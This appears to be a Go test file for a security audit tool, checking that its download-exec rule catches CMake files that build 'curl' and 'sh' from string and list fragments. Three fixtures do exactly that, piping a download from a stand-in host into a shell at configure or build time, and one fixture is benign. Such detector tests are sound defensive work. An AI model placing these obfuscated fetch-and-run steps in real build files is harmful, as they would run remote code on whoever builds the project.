package audit_test

import (
	"testing"

	"github.com/skilldex/skilldex/internal/audit"
)

// TestCMakeStringCommands: a command a CMake file assembles with
// string() and list() (CONCAT, APPEND, REPLACE, JOIN, list GET) is read
// as CMake runs it, so a download piped into a shell is found however it
// is spelled; string() over an ordinary build's names is not a finding.
func TestCMakeStringCommands(t *testing.T) {
	crit, none := audit.Critical, audit.SeverityNone
	cm := func(body string) map[string]string {
		return map[string]string{"CMakeLists.txt": "cmake_minimum_required(VERSION 3.20)\nproject(p)\n" + body + "\n"}
	}
	checkRule(t, "download-exec", map[string]systemCase{
		"hostile/concat":       {cm("string(CONCAT F \"cu\" \"rl\")\nstring(APPEND S \"s\" \"h\")\nexecute_process(COMMAND ${F} -fsSL https://h.example/i COMMAND ${S})"), crit},
		"hostile/replace-join": {cm("string(REPLACE \"#\" \"\" F \"c#u#r#l\")\nstring(JOIN \"\" S \"b\" \"ash\")\nadd_custom_target(boot ALL COMMAND sh -c \"${F} -s https://h.example/i | ${S}\")"), crit},
		"hostile/list-get":     {cm("set(T \"wget;curl;fetch\")\nlist(APPEND T \"zsh\" \"sh\")\nlist(GET T 1 F)\nlist(GET T -1 S)\nexecute_process(COMMAND ${F} -s https://h.example/i COMMAND ${S})"), crit},
		"benign/build-names":   {cm("string(TOUPPER \"${PROJECT_NAME}\" UP)\nstring(CONCAT V \"1.\" \"2\")\nadd_custom_target(ver ALL COMMAND ${CMAKE_COMMAND} -E echo ${UP}-${V})"), none},
	})
}
